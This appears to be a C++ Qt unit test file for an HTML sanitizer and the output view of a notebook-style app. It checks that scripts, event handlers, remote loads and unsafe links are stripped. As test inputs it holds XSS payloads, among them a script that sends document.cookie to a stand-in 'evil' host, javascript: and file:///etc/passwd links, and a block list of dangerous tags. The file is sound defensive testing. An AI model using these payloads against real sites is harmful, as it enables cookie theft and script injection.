// HTML outputs (issue 16, issue-14 polish): SafeHtml reduces text/html to a subset that runs and
// fetches nothing, or refuses it; HtmlOutputView shows the result, or the source with a note,
// with a "Show source" toggle, and opens a link only on a click, through the desktop. The
// attacks: scripts, on* handlers, remote images, style url(), javascript: links, 100k levels of
// nesting, a 40 MB string, malformed tags.
#include "core/ipynb/SafeHtml.h"
#include "core/ipynb/SafeTableHtml.h"
#include "core/run/RunOutput.h"
#include "ui/outputs/HtmlOutputView.h"
#include "ui/outputs/OutputsPanel.h"

#include <QElapsedTimer>
#include <QPlainTextEdit>
#include <QSignalSpy>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>
#include <QToolButton>

using namespace sandpad;

namespace {

QString reduced(const QString& html)
{
    return SafeHtml::reduce(html).html.value_or(QStringLiteral("<refused>"));
}

// Nothing in `html` that could run, load or submit anything.
bool inert(const QString& html)
{
    const QString lower = html.toLower();
    for (const char* bad : {"<script", "<style", "<img", "<iframe", "<form", "<input", "<object", "<embed", "<link",
                            "<meta", "<svg", " on", "style=", "src=", "url(", "javascript:", "data:", "<base"})
        if (lower.contains(QLatin1String(bad)))
            return false;
    return true;
}

} // namespace

class TestSafeHtml : public QObject {
    Q_OBJECT

private slots:
    void keepsTheSafeSubset()
    {
        const QString html = QStringLiteral(
            "<h2>Report</h2><p>Some <b>bold</b>, <i>italic</i>, <code>x = 1</code> and <em>more</em>.</p>"
            "<ul><li>one<li>two</ul><ol start=\"3\"><li>three</li></ol>"
            "<table border=1 class=\"x\"><tr><th colspan=\"2\">h</th></tr><tr><td>1</td><td rowspan=99999>2</td></tr></table>"
            "<pre>a  b</pre><blockquote>q</blockquote><a href=\"https://example.org/a?b=1&amp;c=2\" title=\"t\">a link</a>");
        const SafeHtml::Reduced r = SafeHtml::reduce(html);
        QVERIFY2(r.html, qPrintable(r.why));
        QCOMPARE(*r.html,
                 QStringLiteral("<h2>Report</h2><p>Some <b>bold</b>, <i>italic</i>, <code>x = 1</code> and <em>more</em>.</p>"
                                "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>"
                                "<table border=\"1\" cellspacing=\"0\" cellpadding=\"3\"><tr><th colspan=\"2\">h</th></tr><tr><td>1</td><td>2</td></tr></table>"
                                "<pre>a  b</pre><blockquote>q</blockquote>"
                                "<a href=\"https://example.org/a?b=1&amp;c=2\" title=\"t\">a link</a>"));
        QCOMPARE(r.links, QStringList{QStringLiteral("https://example.org/a?b=1&c=2")});
        QCOMPARE(r.removed, 0);
        // Unclosed elements are closed, stray closing tags ignored, text escaped again.
        QCOMPARE(reduced(QStringLiteral("<div><b>x</i> 1 < 2 & 3 </div></div><p>open")),
                 QStringLiteral("<div><b>x 1 &lt; 2 &amp; 3 </b></div><p>open</p>"));
        QCOMPARE(reduced(QStringLiteral("<p>a &amp; &#60; &#x3C; &nbsp; &bogus</p>")),
                 QStringLiteral("<p>a &amp; &#60; &#x3C; &nbsp; &amp;bogus</p>"));
    }

    void scriptsAndHandlersAreRemoved()
    {
        const QString attack = QStringLiteral(
            "<p onclick=\"steal()\" onmouseover=x>hi</p><script>fetch('http://evil/'+document.cookie)</script>"
            "<SCRIPT type=module>alert(1)</SCRIPT ><script>/* </scrip */ alert(2)</script>"
            "<body onload=alert(3)><div onerror=alert(4)>ok</div></body><noscript><img src=x></noscript>"
            "<template><script>alert(5)</script></template>");
        const SafeHtml::Reduced r = SafeHtml::reduce(attack);
        QVERIFY2(r.html, qPrintable(r.why));
        QVERIFY2(inert(*r.html), qPrintable(*r.html));
        QCOMPARE(*r.html, QStringLiteral("<p>hi</p><div>ok</div>"));
        QVERIFY(r.removed >= 5);
        // A script that never closes takes the rest with it, as a browser would.
        QCOMPARE(reduced(QStringLiteral("<p>a</p><script>alert(1)<p>b</p>")), QStringLiteral("<p>a</p>"));
    }

    void nothingIsFetched()
    {
        const QString attack = QStringLiteral(
            "<img src=http://evil.example/track.png alt=\"a chart\"><img src='https://x/y.gif'>"
            "<div style=\"background:url(http://evil/bg.png)\">styled</div>"
            "<style>body { background: url(http://evil/css.png) } @import 'http://evil/x.css';</style>"
            "<link rel=stylesheet href=http://evil/s.css><iframe src=http://evil/></iframe>"
            "<object data=http://evil/o></object><embed src=http://evil/e><video src=http://evil/v></video>"
            "<svg><image href=http://evil/i.png /></svg><base href=http://evil/><meta http-equiv=refresh content=\"0;url=http://evil\">"
            "<table background=http://evil/t.png><tr><td background=\"http://evil/c.png\">cell</td></tr></table>"
            "<form action=http://evil/post><input name=q value=secret><button>Send</button></form>");
        const SafeHtml::Reduced r = SafeHtml::reduce(attack);
        QVERIFY2(r.html, qPrintable(r.why));
        QVERIFY2(inert(*r.html), qPrintable(*r.html));
        QVERIFY2(!r.html->contains(QStringLiteral("evil")), qPrintable(*r.html));
        QVERIFY(r.html->contains(QStringLiteral("[image: a chart]")));
        QVERIFY(r.html->contains(QStringLiteral("styled")));
        QVERIFY(r.html->contains(QStringLiteral("<td>cell</td>")));
        QVERIFY(r.links.isEmpty());

        // And the view asks for nothing when it lays the result out.
        HtmlOutputView view(attack);
        view.resize(500, 400);
        view.show();
        QVERIFY(view.rendered());
        QCOMPARE(view.browser()->resourceRequests(), 0);
        QVERIFY(view.note().contains(QStringLiteral("not shown")));
    }

    void onlyWebAndMailLinksSurvive()
    {
        for (const QString& bad :
             {QStringLiteral("javascript:alert(1)"), QStringLiteral(" JavaScript:alert(1)"), QStringLiteral("java\tscript:alert(1)"),
              QStringLiteral("javascript&#58;alert(1)"), QStringLiteral("data:text/html,<script>alert(1)</script>"),
              QStringLiteral("vbscript:x"), QStringLiteral("file:///etc/passwd"), QStringLiteral("/relative/path"),
              QStringLiteral("http://"), QStringLiteral("\" onclick=\"alert(1)")}) {
            const SafeHtml::Reduced r = SafeHtml::reduce(QStringLiteral("<a href=\"%1\">click</a>").arg(bad));
            QVERIFY2(r.html, qPrintable(bad));
            QCOMPARE(*r.html, QStringLiteral("<span>click</span>"));
            QVERIFY(r.links.isEmpty());
        }
        QCOMPARE(SafeHtml::reduce(QStringLiteral("<a href=mailto:ada@example.org>mail</a>")).links,
                 QStringList{QStringLiteral("mailto:ada@example.org")});
        // A quote in the URL cannot leave the attribute.
        const QString tricky = reduced(QStringLiteral("<a href='https://e.org/\"onmouseover=\"alert(1)'>x</a>"));
        QVERIFY2(!tricky.contains(QStringLiteral("\"onmouseover")), qPrintable(tricky));
    }

    void linksOpenOnlyOnAClick()
    {
        QList<QUrl> opened;
        HtmlOutputView::setLinkOpener([&](const QUrl& url) { opened << url; });
        HtmlOutputView view(QStringLiteral("<p><a href=\"https://example.org/\">site</a> "
                                           "<a href=\"javascript:alert(1)\">bad</a></p>"));
        view.resize(400, 200);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QTest::qWait(50);
        QVERIFY(opened.isEmpty()); // shown, never followed by itself
        QVERIFY(view.browser()->openLinks() == false && view.browser()->openExternalLinks() == false);
        // Clicking the link: the desktop opens it.
        const QTextBlock block = view.browser()->document()->firstBlock();
        QVERIFY(block.text().startsWith(QStringLiteral("site")));
        const QRect r = view.browser()->cursorRect(QTextCursor(block));
        QTest::mouseClick(view.browser()->viewport(), Qt::LeftButton, {}, r.center() + QPoint(8, 0));
        QTRY_COMPARE(opened.size(), 1);
        QCOMPARE(opened[0], QUrl(QStringLiteral("https://example.org/")));
        // Whatever reaches openLink is checked again.
        view.openLink(QUrl(QStringLiteral("javascript:alert(1)")));
        view.openLink(QUrl(QStringLiteral("file:///etc/passwd")));
        QCOMPARE(opened.size(), 1);
        HtmlOutputView::setLinkOpener({});
    }

    void deepNestingIsRefusedQuickly()
    {
        QString deep;
        for (int i = 0; i < 100000; ++i)
            deep += QStringLiteral("<div>");
        deep += QStringLiteral("x");
        QElapsedTimer t;
        t.start();
        const SafeHtml::Reduced r = SafeHtml::reduce(deep);
        QVERIFY(!r.html);
        QVERIFY2(r.why.contains(QStringLiteral("nested")), qPrintable(r.why));
        qInfo("100k levels refused in %lld ms", t.elapsed());
        // Nested inside a removed subtree, or as implied ends, it costs nothing either.
        QString svg = QStringLiteral("<svg>");
        for (int i = 0; i < 100000; ++i)
            svg += QStringLiteral("<svg><g>");
        QVERIFY(SafeHtml::reduce(svg + QStringLiteral("</svg>ok")).html);
        QString items = QStringLiteral("<ul>");
        for (int i = 0; i < 100000; ++i)
            items += QStringLiteral("<li>x");
        QVERIFY(SafeHtml::reduce(items).html); // each <li> ends the one before
        // The view shows the source with the reason.
        HtmlOutputView view(deep);
        QVERIFY(!view.rendered());
        QVERIFY(view.showsSource());
        QVERIFY(!view.sourceButton()->isEnabled());
        QVERIFY2(view.note().contains(QStringLiteral("shown as its source")), qPrintable(view.note()));
    }

    void hugeStringIsRefusedWithoutWork()
    {
        const QString huge(40 * 1024 * 1024, QLatin1Char('a'));
        QElapsedTimer t;
        t.start();
        const SafeHtml::Reduced r = SafeHtml::reduce(QStringLiteral("<b>") + huge);
        QVERIFY(!r.html);
        QVERIFY2(r.why.contains(QStringLiteral("limit")), qPrintable(r.why));
        HtmlOutputView view(QStringLiteral("<b>") + huge);
        QVERIFY(!view.rendered());
        QVERIFY(view.sourceView()->toPlainText().size() < HtmlOutputView::kMaxSourceChars + 200);
        QVERIFY(view.sourceView()->toPlainText().contains(QStringLiteral("characters are shown")));
        qInfo("a 40 MB string refused and its source cut in %lld ms", t.elapsed());
        // Just under the limit it is reduced in one pass.
        const QString big = QStringLiteral("<p>") + QString(SafeHtml::kMaxChars - 10, QLatin1Char('b'));
        t.restart();
        QVERIFY(SafeHtml::reduce(big).html);
        qInfo("%lld characters reduced in %lld ms", qint64(big.size()), t.elapsed());
    }

    void malformedTags()
    {
        // Never-ending tags, comments and quotes: refused, shown as source.
        for (const QString& bad : {QStringLiteral("<p>ok</p><a href=\"https://x"), QStringLiteral("<div class='x>text"),
                                   QStringLiteral("<b"), QStringLiteral("<!-- never closed <script>alert(1)</script>"),
                                   QStringLiteral("<!DOCTYPE html")}) {
            const SafeHtml::Reduced r = SafeHtml::reduce(bad);
            QVERIFY2(!r.html, qPrintable(bad + QStringLiteral(" -> ") + r.html.value_or(QString())));
            QVERIFY(!r.why.isEmpty());
        }
        // Odd but complete: reduced.
        QCOMPARE(reduced(QStringLiteral("<b<i>x</b>")), QStringLiteral("<b>x</b>"));
        QCOMPARE(reduced(QStringLiteral("< b>x</ b> <3 a")), QStringLiteral("&lt; b&gt;x&lt;/ b&gt; &lt;3 a"));
        QCOMPARE(reduced(QStringLiteral("<p/><br/><hr><p>x</P >")), QStringLiteral("<p></p><br><hr><p>x</p>"));
        QCOMPARE(reduced(QStringLiteral("<!-- note --><?xml version=\"1.0\"?><!DOCTYPE html><p>x</p>")), QStringLiteral("<p>x</p>"));
        QCOMPARE(reduced(QStringLiteral("<custom-el data-x=1>text</custom-el>")), QStringLiteral("text"));
        QCOMPARE(reduced(QStringLiteral("<p a=1 b = \"2\" c='3' d>x</p>")), QStringLiteral("<p>x</p>"));
        QCOMPARE(reduced(QStringLiteral("a\x01\x02" "b")), QStringLiteral("ab"));
    }

    void tablesProfileIsTheReportsSanitizer()
    {
        QCOMPARE(SafeTableHtml::sanitize(QStringLiteral("<table><tr><td>1</td></tr></table>")).value_or("refused"),
                 QStringLiteral("<table><tr><td>1</td></tr></table>"));
        QVERIFY(!SafeTableHtml::sanitize(QStringLiteral("<table><tr><td><a href='https://x'>x</a></td></tr></table>")));
        QVERIFY(!SafeTableHtml::sanitize(QStringLiteral("<h1>no table</h1>")));
    }

    void outputsPanelShowsHtmlWithASourceToggle()
    {
        RunOutput html;
        html.type = RunOutput::Type::Html;
        html.text = QStringLiteral("<h3>Title</h3><p>A <b>bold</b> word</p><script>alert(1)</script>");
        QCOMPARE(RunOutput::typeName(html.type), QStringLiteral("html"));
        QCOMPARE(RunOutput::typeFromName(QStringLiteral("html")), std::optional(RunOutput::Type::Html));
        QCOMPARE(html.textForm(), html.text + u'\n');
        OutputsPanel panel;
        panel.setOutputs({html});
        QCOMPARE(panel.partKinds(), QStringList{QStringLiteral("html")});
        auto* view = qobject_cast<HtmlOutputView*>(panel.parts().value(0));
        QVERIFY(view);
        QVERIFY(view->rendered());
        QVERIFY(!view->showsSource());
        const QString shown = view->browser()->toPlainText();
        QVERIFY2(shown.contains(QStringLiteral("Title")) && shown.contains(QStringLiteral("A bold word")), qPrintable(shown));
        QVERIFY(!shown.contains(QStringLiteral("alert")));
        // The heading and the bold word are formatted, not shown as tags.
        QVERIFY(!shown.contains(QStringLiteral("<b>")));
        view->sourceButton()->click();
        QVERIFY(view->showsSource());
        QCOMPARE(view->sourceView()->toPlainText(), html.text);
        QCOMPARE(view->sourceButton()->text(), QStringLiteral("Show rendered"));
        view->sourceButton()->click();
        QVERIFY(!view->showsSource());
    }
};

QTEST_MAIN(TestSafeHtml)
#include "test_safe_html.moc"
